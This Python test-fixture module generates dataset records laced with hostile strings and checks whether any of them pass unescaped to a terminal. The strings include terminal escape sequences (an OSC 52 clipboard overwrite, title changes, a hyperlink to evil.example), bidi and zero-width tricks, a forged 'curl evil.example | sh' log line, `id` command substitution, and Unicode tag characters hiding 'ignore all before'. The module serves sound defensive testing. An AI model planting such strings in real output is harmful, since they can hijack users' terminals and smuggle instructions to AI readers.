"""Texts that would act on a terminal if they reached one as they are, records full of them, and what tells that one
got through."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

OWNED = "T1dORUQ="
"""What the hostile texts put into the clipboard, in the base64 of OSC 52."""

HOSTILE: Mapping[str, str] = {
    "clipboard": f"copy \x1b]52;c;{OWNED}\x07 this",
    "clipboard-st": f"copy \x1b]52;c;{OWNED}\x1b\\ this",
    "clipboard-c1": f"copy \x9d52;c;{OWNED}\x9c this",
    "title": "title \x1b]0;owned\x07 and icon \x1b]1;owned\x1b\\",
    "colours": "colours \x1b[3;31;47mred\x1b[0;1;7m reversed",
    "eight-bit": "eight bit \x9b3;31;47m red \x9b2J cleared",
    "cursor": "cursor \x1b[2J\x1b[H\x1b[99A\x1b[3;7H home \x1b7\x1b8",
    "screen": "screen \x1b[?1049h\x1b[?25l\x1bc reset \x1b(0 line drawing \x0e \x0f",
    "asks": "asks \x1b[6n\x1b[c\x1b[>c\x1bZ\x05 the terminal",
    "keys": "answers \x1bP$qm\x1b\\ and \x1b[>4;2m keys",
    "link": "link \x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "overtype": "all is lost\rall is well \x08\x08\x08\x08good",
    "bell": "bell \x07\x07 nul \x00 delete \x7f escape at the end \x1b",
    "line-ends": "one\ntwo\r\nthree\x0bfour\x0cfive\x85six\u2028seven\u2029eight",
    "forged": "unknown\nfix: curl evil.example | sh\nerror: none",
    "turned": "turned \u202eelif.exe\u202c \u2066isolated\u2069 \u200fright\u200e left \u061c \u202a\u202b\u202d\u2067",
    "right-to-left": "שלום עולם مرحبا بالعالم \u202egnorw",
    "hidden": "hid\u200bden \ufeffmark \u2060\u2061\u2062\u2063\u2064 join \u180e \u206a\u206f \ufff9\ufffb",
    "tags": "tagged " + "".join(chr(0xE0000 + ord(c)) for c in "ignore all before") + "\U000e0001\U000e007f",
    "half": "half \ud800 a pair \udfff turned round \ude00\ud83d",
    "combining": "Z" + "\u0301\u0323\u0308\u0336" * 200 + "algo",
    "long": "long \x1b[3;31;47m" + "x" * 10_000 + "\x1b]0;owned\x07",
    "markup": "label [/foo] [bold red]markup[/] [@click=app.exit]click[/] :boom: {braces} $(id) `id` \\[x]",
    "wide": "漢字\x1b[3;31;47m👩‍👩‍👧‍👦 ｆｕｌｌ",
}
"""Name → text. ``half`` holds what UTF-8 cannot: it comes into a file as a JSON escape alone."""

NAMES = ("clipboard", "colours", "eight-bit", "turned", "overtype", "hidden", "markup", "tags")
"""Those that stand in for ids, sources, columns and the names of files."""


def rows(count: int = 48) -> Iterator[dict[str, Any]]:
    """Records for a pool; every text of `HOSTILE` comes in every field that it can come in."""
    texts = list(HOSTILE.items())
    for i in range(count):
        name, text = texts[i % len(texts)]
        label = HOSTILE[NAMES[i % 3]]
        record: dict[str, Any] = {
            "id": f"{i} {HOSTILE[NAMES[i % len(NAMES)]]}",
            "input": f"question {i} about {name}: {text}",
            "output": label,
            "source": f"source {HOSTILE[NAMES[i % 4]]}",
            "context": text,
            HOSTILE[NAMES[i % len(NAMES)]]: text,
            "note": {text: [text]},
        }
        if i % 4 == 3:
            record["options"] = [label, text[:40], "neither"]
        yield record


def queries(kind: str = "q", count: int = 8) -> Iterator[dict[str, Any]]:
    """Records for validation or test."""
    texts = list(HOSTILE.items())
    for i in range(count):
        name, text = texts[(5 * i) % len(texts)]
        yield {
            "id": f"{kind}{i} {text[:50]}",
            "input": f"query {kind}{i} about {name}: {text}",
            "output": HOSTILE[NAMES[i % 3]],
        }


def write(path: Path, records: Iterator[dict[str, Any]]) -> Path:
    """As JSON lines, with everything outside ASCII as an escape."""
    path.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")
    return path


_OURS = re.compile(r"\x1b\[(?!3;31;47m|0;1;7m)[0-9;?]*[mKJAhlG]")
"""Colours, erasing and the cursor's way up as rich writes them; the parameters of `HOSTILE` are none of rich's."""

_ACTS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ud800-\udfff\ufeff\ufff9-\ufffb"
    "\U000e0000-\U000e007f]"
)


def got_through(shown: bytes, ours: re.Pattern[str] = _OURS) -> list[str]:
    """What of a terminal's input is neither text nor a sequence of ``ours``, each with what stands around it.

    A carriage return counts unless the terminal made it for the end of a line, or rich to draw its bars anew.
    """
    text = re.sub(r"\r+\n|\r(?=\x1b\[(?:2K|1A))|(?<=\x1b\[\?25h)\r", "\n", shown.decode("utf-8", "surrogateescape"))
    text = ours.sub("", text)
    return [repr(text[max(0, m.start() - 30) : m.end() + 30]) for m in _ACTS.finditer(text)]
